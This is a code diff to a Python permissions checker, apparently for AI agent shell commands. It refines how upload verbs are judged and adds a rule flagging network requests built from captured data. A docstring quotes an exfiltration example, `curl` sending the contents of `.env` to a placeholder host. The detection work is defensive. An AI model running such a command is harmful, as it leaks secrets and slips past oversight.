@@ -25,6 +25,7 @@ from permissions.caps import external_effect_views, network_redirect
 from permissions.commands import FILE_WRITERS, PATH_WRITERS, runs_a_written_file
 from permissions.commands.agent_clis import moves_folder, nested_agent, starts_agent
 from permissions.commands.arithmetic import arithmetic_on_input
+from permissions.commands.fetches import sends_captured
 from permissions.commands.git import canonical_branch, names_protected_branch, protected_branch_move
 from permissions.commands.machine import machine_change
 from permissions.commands.options import PROGRAMS, canonical_words, program_name
@@ -897,12 +898,20 @@ def _protected_file_write(payload: Mapping[str, Any] | None) -> str | None:
 
 
 def _upload_around(
-    view: tuple[str, ...], seg: Segment, idx: int, around: tuple[bool, dict[int, str], bool]
+    view: tuple[str, ...],
+    seg: Segment,
+    idx: int,
+    around: list[tuple[bool, dict[int, str], bool]],
+    command: str,
+    segments: Sequence[Segment],
 ) -> bool:
     """An upload verb's view as its surroundings show it (permissions.commands.uploads.uploads_in): fed by
     a pipe or a redirection, under a named proxy, handed words by ``xargs`` from a fed input, or given words
-    built from what the command captured (``curl "https://h/$(cat .env)"``)."""
-    proxied, fed_at, captured = around
+    built from what the command captured (``curl "https://h/$(cat .env)"``). ``around`` keeps what the
+    surroundings are, read at the first upload verb met (empty until then)."""
+    if not around:
+        around.append((names_a_proxy(segments), fed_segments(command, segments), captures(segments)))
+    proxied, fed_at, captured = around[0]
     fed = fed_at.get(idx, "")
     built = captured and bool(seg.dynamic) and max(seg.dynamic) >= len(seg.words) - len(view)
     if not (proxied or fed or built):
@@ -969,7 +978,7 @@ def _terminal_cap(
     segments = parsed.segments
     privileged_at: str | None = None
     # whether the command names a proxy, and which segments are fed: read once, only if an upload verb is met
-    around: tuple[bool, dict[int, str], bool] | None = None
+    around: list[tuple[bool, dict[int, str], bool]] = []
     git = False  # some view is a git command (git is a cap verb: every such view is met below)
     for idx, (seg, vs) in enumerate(zip(segments, seg_views)):
         if seg.redirects and network_redirect(seg.redirects):
@@ -983,13 +992,15 @@ def _terminal_cap(
                 git = git or verb == "git"
                 if _external_view(view):
                     return "cap_external_effect", seg.text  # R4.10: also as its option table reads it
-                if verb in UPLOAD_VERBS:
-                    if around is None:
-                        around = names_a_proxy(segments), fed_segments(command, segments), captures(segments)
-                    if _upload_around(view, seg, idx, around):
-                        return "cap_external_effect", seg.text  # what it reads, a proxy, words handed to it
+                if verb in UPLOAD_VERBS and _upload_around(view, seg, idx, around, command, segments):
+                    return "cap_external_effect", seg.text  # what it reads, a proxy, words handed to it
                 if privileged_at is None and privileged_view(view):
                     privileged_at = seg.text
+    # R4.10: a name or an address built from captured data (fetches.may_capture, inlined: the hot path)
+    if "$" in command or "`" in command or "<(" in command:
+        sent = sends_captured(segments, seg_views, command)
+        if sent is not None:
+            return "cap_external_effect", sent
     if protected and git:
         moved = protected_branch_move(seg_views, protected)  # R1.5: by any git command, not only a merge
         if moved is not None:
